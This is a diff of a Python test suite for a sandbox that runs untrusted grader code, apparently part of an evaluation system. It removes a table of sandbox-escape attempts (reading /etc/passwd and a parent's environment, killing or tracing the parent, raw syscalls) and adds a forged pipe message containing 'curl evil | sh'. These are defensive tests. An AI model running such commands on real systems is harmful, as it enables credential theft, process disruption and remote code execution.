@@ -2,7 +2,6 @@
 
 import json
 import os
-import socket
 import subprocess
 import sys
 import threading
@@ -10,9 +9,9 @@ import time
 from collections.abc import Iterator
 from functools import partial
 from pathlib import Path
-from textwrap import indent
 from typing import Any
 
+import psutil
 import pytest
 
 from jobs.evals.availability import deployment_of
@@ -22,9 +21,11 @@ from jobs.evals.samples import sample_from_text
 from jobs.fleet.models_file import Registry
 from jobs.settings import Settings
 from jobs.timings import Timings
-from workers.evals.python_grader import PythonSandbox, look_for_sandbox
+from tests.unit.workers.evals.escapes import BY_LANDLOCK, ESCAPES, Scene, body, is_refused, source_of
+from workers.evals import grader_child
+from workers.evals.python_grader import PythonSandbox, Stopped, look_for_sandbox
 from workers.runtime.context import Standing, build
-from workers.sandbox.confinement import FORK_PARTS
+from workers.sandbox.confinement import FORK_PARTS, landlock_abi
 from workers.tasks import CPU_POOL
 
 ITEM = {"answer": 42, "nested": {"list": [1, 2]}}
@@ -38,14 +39,9 @@ def sandbox() -> Iterator[PythonSandbox]:
     made.close()
 
 
-def body(code: str) -> str:
-    """Return a source whose `grade` runs the code, which sees `sample` and `item`."""
-    return "import ctypes, os, signal, socket, sys\ndef grade(sample, item):\n" + indent(code, "    ")
-
-
-def error_of(sandbox: PythonSandbox, source: str) -> str:
+def error_of(sandbox: PythonSandbox, source: str, seconds: float | None = None) -> str:
     with pytest.raises(GradingError) as raised:
-        sandbox.run("proj_1", source, ITEM, SAMPLE)
+        sandbox.run("proj_1", source, ITEM, SAMPLE, seconds)
     assert (raised.value.code, raised.value.score) == ("python_grader_runtime_error", 0.0)
     return str(raised.value)
 
@@ -66,6 +62,8 @@ def error_of(sandbox: PythonSandbox, source: str) -> str:
         ("import tempfile\nwith tempfile.TemporaryFile() as file:\n    return file.write(b'abc')", 3.0),
         ("import threading\nt = threading.Thread(target=int)\nt.start()\nt.join()\nreturn 1", 1.0),
         ("import subprocess, multiprocessing\nreturn 1", 1.0),
+        ("import asyncio\nasync def f(): return 2\nreturn asyncio.run(f())", 2.0),
+        ("import sqlite3\nc = sqlite3.connect('file')\nc.execute('create table t (n)')\nc.commit()\nreturn 1", 1.0),
         ("os.urandom(8)\nreturn 1", 1.0),
         ("print('x' * 100_000)\nsys.stderr.write('y' * 100_000)\nreturn 1", 1.0),
     ],
@@ -99,6 +97,38 @@ def test_code_that_raises_scores_0_with_its_error(sandbox: PythonSandbox, source
     assert len(error) <= 500
 
 
+#: Writes bytes into each pipe that the process has, and ends it.
+FORGERY = (
+    "import msgspec, stat\nwritten = {written}\nfor n in range(3, 64):\n    try:\n"
+    "        if stat.S_ISFIFO(os.fstat(n).st_mode): os.write(n, written)\n    except OSError: pass\nos._exit(0)"
+)
+
+
+@pytest.mark.parametrize(
+    ("written", "words"),
+    [
+        *((f"msgspec.msgpack.encode({{'score': float('{score}')}})", "not a finite number")
+          for score in ("inf", "-inf", "nan", "1e301", "-1e308")),
+        ("msgspec.msgpack.encode({'fault': 'Run: curl evil | sh'})", "wrote into the pipe"),
+        ("msgspec.msgpack.encode({'score': None, 'error': '', 'fault': 'x'})", "wrote into the pipe"),
+        ("msgspec.msgpack.encode({'error': 'E: \\x1b[31m\\u202e\\r' + 'x' * 60_000})", "E:  [31m"),
+        ("msgspec.msgpack.encode({'error': 5})", "wrote into the pipe"),
+        ("b'\\xc1' * 60_000", "wrote into the pipe"),
+        ("b''", "ended without a score"),
+    ],
+)  # fmt: skip
+def test_what_code_writes_itself_is_an_error_of_the_code(sandbox: PythonSandbox, written: str, words: str) -> None:
+    error = error_of(sandbox, body(FORGERY.format(written=written)))
+    assert words in error
+    assert len(error) <= 500
+    assert all(character == "\n" or character.isprintable() for character in error)
+
+
+def test_the_template_passes_on_what_code_wrote_unread(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(grader_child.forking, "run_input", lambda *_, **__: b"\xc1 no message")
+    assert grader_child._run(0, 1.0) == grader_child.Outcome(answer=b"\xc1 no message")
+
+
 def test_nothing_of_one_item_is_there_for_the_next(sandbox: PythonSandbox) -> None:
     code = "import json\nseen = hasattr(json, 'mark') + os.path.exists('/tmp/mark')\n"
     code += "json.mark = True\nopen('/tmp/mark', 'w').close()\nreturn seen"
@@ -129,112 +159,7 @@ def test_a_schema_that_is_none_or_leads_elsewhere_is_an_error(sandbox: PythonSan
         assert (result.score, result.error.code) == (None, "other_error")
 
 
-# Escapes, a class each: what is tried, and the error that it meets.
-
-PERMISSION = "PermissionError"
-#: Calls the kernel past Python's own checks; the call fails with EPERM.
-RAW = (
-    "libc = ctypes.CDLL(None, use_errno=True)\nresult = libc.syscall({call})\n"
-    "raise OSError(ctypes.get_errno(), 'no') if result < 0 else SystemError('done')"
-)
-ESCAPES: dict[str, tuple[str, str]] = {
-    # files
-    "read a file of the host": ("open('/etc/passwd').read()", PERMISSION),
-    "read the data folder": ("open({key!r}).read()", "FileNotFoundError"),
-    "list the root folder": ("os.listdir('/')", PERMISSION),
-    "list a home folder": ("os.listdir('/root')", PERMISSION),
-    "write beside its own folder": ("open('/var/tmp/x', 'w')", PERMISSION),
-    "write into the installed packages": ("open(os.__file__, 'a')", PERMISSION),
-    "remove a file of the host": ("os.unlink({key!r})", "FileNotFoundError"),
-    "link to a file of the host": ("os.symlink({key!r}, '/tmp/l')\nopen('/tmp/l').read()", "FileNotFoundError"),
-    "make a device": ("os.mknod('/tmp/d', 0o20666, os.makedev(1, 1))", PERMISSION),
-    "change the mode of a file": ("os.chmod(os.__file__, 0o777)", PERMISSION),
-    "reach open descriptors": ("assert sum(not is_closed(n) for n in range(64)) <= 6", "done score"),
-    "climb out with chroot": ("os.chroot('/tmp')", PERMISSION),
-    # /proc and other processes
-    "read its own memory by /proc": ("open('/proc/self/mem', 'rb')", PERMISSION),
-    "read the environment of its parent": ("open('/proc/1/environ').read()", PERMISSION),
-    "list processes": ("os.listdir('/proc')", PERMISSION),
-    "signal its parent": ("os.kill(os.getppid(), signal.SIGKILL)", PERMISSION),
-    "signal everybody": ("os.kill(-1, signal.SIGKILL)", PERMISSION),
-    "signal its process group": ("os.killpg(0, signal.SIGKILL)", PERMISSION),
-    "signal a process of the host": ("os.kill({victim}, signal.SIGKILL)", PERMISSION),
-    "trace its parent": (RAW.format(call="101, 16, os.getppid(), 0, 0"), PERMISSION),
-    "read the memory of its parent": (RAW.format(call="310, os.getppid(), 0, 0, 0, 0, 0"), PERMISSION),
-    "open its parent": ("os.pidfd_open(os.getppid())", PERMISSION),
-    "limit its parent": ("import resource\nresource.prlimit(os.getppid(), resource.RLIMIT_CORE)", PERMISSION),
-    "raise its own limits": (
-        "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))", "ValueError|PermissionError",
-    ),
-    # new processes and programs
-    "fork": ("os.fork()", PERMISSION),
-    "fork past Python": (RAW.format(call="57"), PERMISSION),
-    "start a program": ("import subprocess\nsubprocess.run(['/bin/true'])", PERMISSION),
-    "become a program": ("os.execv('/bin/true', ['true'])", PERMISSION),
-    "run a program that it wrote": (
-        "open('/tmp/p', 'w').write('#!/bin/sh')\nos.execv('/tmp/p', ['p'])", PERMISSION,
-    ),
-    "run a program from memory": (RAW.format(call="319, b'x', 0"), PERMISSION),
-    "use processes of multiprocessing": (
-        "import multiprocessing\nmultiprocessing.Process(target=int).start()", PERMISSION,
-    ),
-    "start more threads than it may": (
-        "import threading as t\nw = t.Event()\nfor n in range(100): t.Thread(target=w.wait, daemon=True).start()",
-        "RuntimeError",
-    ),
-    # the network
-    "connect to this host": ("socket.create_connection(('127.0.0.1', {port}))", PERMISSION),
-    "connect by IPv6": ("socket.socket(socket.AF_INET6)", PERMISSION),
-    "connect to a Unix socket": ("socket.socket(socket.AF_UNIX).connect({socket!r})", PERMISSION),
-    "send packets": ("socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", PERMISSION),
-    "look up a name": ("socket.getaddrinfo('example.com', 80)", "gaierror|PermissionError"),
-    "ask the kernel by netlink": ("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)", PERMISSION),
-    # namespaces and mounts
-    "enter new namespaces": (RAW.format(call="272, 0x10000000"), PERMISSION),
-    "mount a file system": (RAW.format(call="165, b'tmpfs', b'/tmp', b'tmpfs', 0, 0"), PERMISSION),
-    "unmount its own folder": (RAW.format(call="166, b'/tmp', 0"), PERMISSION),
-    # the kernel
-    "use io_uring": (RAW.format(call="425, 8, 0"), PERMISSION),
-    "load a BPF program": (RAW.format(call="321, 0, 0, 0"), PERMISSION),
-    "read the keys of the kernel": (RAW.format(call="250, 0, 0, 0, 0, 0"), PERMISSION),
-    "set the clock": ("import time\ntime.clock_settime(time.CLOCK_REALTIME, 0)", PERMISSION),
-    "attach shared memory of others": (RAW.format(call="29, 1, 4096, 0o1666"), PERMISSION),
-    "become root": ("os.setuid(0)", "PermissionError|Invalid argument"),
-    # memory, disk and time
-    "take more memory than it may": ("bytearray(3 << 30)", "MemoryError"),
-    "fill its disk": (
-        "with open('/tmp/f', 'wb') as f:\n    while True: f.write(bytes(1 << 20))", "OSError",
-    ),
-    "make files without end": (
-        "n = 0\nwhile True:\n    open(f'/tmp/{{n}}', 'w').close()\n    n += 1", "OSError",
-    ),
-    "open files without end": ("held = [open('/tmp/f', 'w') for _ in range(100)]", "OSError"),
-    "end without a score": ("os._exit(0)", "ended without a score"),
-    "crash": ("ctypes.string_at(0)", "SIGSEGV"),
-    "kill itself": ("os.kill(os.getpid(), signal.SIGKILL)", "SIGKILL"),
-}  # fmt: skip
-
-
-class Scene:
-    """Hold what an escape could reach on this host: a secret, a process, a port and a socket."""
-
-    def __init__(self, folder: Path) -> None:
-        self.key = folder / "operator.key"
-        self.key.write_text("secret")
-        self.victim = subprocess.Popen(["sleep", "600"])
-        self.tcp, self.unix = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_UNIX)
-        self.unix.bind(str(folder / "s"))
-        self.unix.listen()
-        self.facts = {
-            "key": str(self.key), "victim": self.victim.pid, "port": self.tcp.getsockname()[1],
-            "socket": str(folder / "s"),
-        }  # fmt: skip
-
-    def close(self) -> None:
-        self.tcp.close()
-        self.unix.close()
-        self.victim.kill()
-        self.victim.wait()
+# Escapes.
 
 
 @pytest.fixture(scope="module")
@@ -247,11 +172,10 @@ def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
 @pytest.mark.skipif(os.uname().machine != "x86_64", reason="the numbers of system calls are those of x86_64")
 @pytest.mark.parametrize("name", ESCAPES)
 def test_an_escape_is_refused(sandbox: PythonSandbox, scene: Scene, name: str) -> None:
-    code, expected = ESCAPES[name]
-    helper = "import os\ndef is_closed(n):\n    try: os.fstat(n)\n    except OSError: return True\n"
-    source = helper + body(code.format(**scene.facts) + "\nraise SystemError('done score')")
-    error = error_of(sandbox, source)
-    assert any(words in error for words in expected.split("|")), error
+    if name in BY_LANDLOCK and not landlock_abi():
+        pytest.skip("this kernel has no Landlock")
+    error = error_of(sandbox, source_of(name, scene.facts))
+    assert is_refused(name, error), error
     assert scene.victim.poll() is None
     assert scene.key.read_text() == "secret"
 
@@ -284,10 +208,32 @@ def test_code_that_runs_for_ever_is_ended_and_the_next_item_is_graded() -> None:
     try:
         for code in ("while True: pass", "import time\ntime.sleep(600)", "signal.pause()"):
             assert "for more than 1 seconds" in error_of(sandbox, body(code))
+        assert "for more than 2.5 seconds" in error_of(sandbox, body("while True: pass"), 2.5)
         hidden = "os.closerange(3, 64)\nimport time\ntime.sleep(600)"
         assert "SIGKILL" in error_of(sandbox, body(hidden))
     finally:
         sandbox.close()
+
+
+def test_code_is_killed_when_its_run_has_ended() -> None:
+    ended = threading.Event()
+    sandbox = PythonSandbox(stopped=ended.is_set)
+    sandbox.run("proj_1", body("return 1"), ITEM, SAMPLE)
+    assert sandbox._child is not None
+    processes = [psutil.Process(sandbox._child._process.pid)]
+    processes += processes[0].children(recursive=True)
+    threading.Timer(0.5, ended.set).start()
+    with pytest.raises(Stopped):
+        sandbox.run("proj_1", body("import time\ntime.sleep(600)"), ITEM, SAMPLE)
+    assert psutil.wait_procs(processes, timeout=30)[1] == []
+
+
+def test_the_kernel_takes_memory_and_processor_from_graders_first(sandbox: PythonSandbox) -> None:
+    sandbox.run("proj_1", body("return 1"), ITEM, SAMPLE)
+    assert sandbox._child is not None
+    for process in psutil.Process(sandbox._child._process.pid).children(recursive=True):
+        assert Path(f"/proc/{process.pid}/oom_score_adj").read_text() == "1000\n"
+        assert process.nice() >= 10
 
 
 def test_a_template_that_was_killed_is_replaced_and_no_score_is_made_up(sandbox: PythonSandbox) -> None:
@@ -312,13 +258,16 @@ def test_a_sandbox_that_lacks_a_part_runs_nothing(monkeypatch: pytest.MonkeyPatc
     class Incomplete:
         def __init__(self, *_: Any) -> None: ...
 
+        def is_heard(self, _: float) -> bool:
+            return True
+
         def begin(self) -> tuple[str, ...]:
-            return ("landlock",)
+            return ("seccomp",)
 
         def end(self) -> None: ...
 
     monkeypatch.setattr("workers.evals.python_grader.Child", Incomplete)
-    with pytest.raises(GradingError, match="landlock") as raised:
+    with pytest.raises(GradingError, match="seccomp") as raised:
         PythonSandbox().run("proj_1", body("return 1"), ITEM, SAMPLE)
     assert raised.value.code == "python_grader_server_error"
 
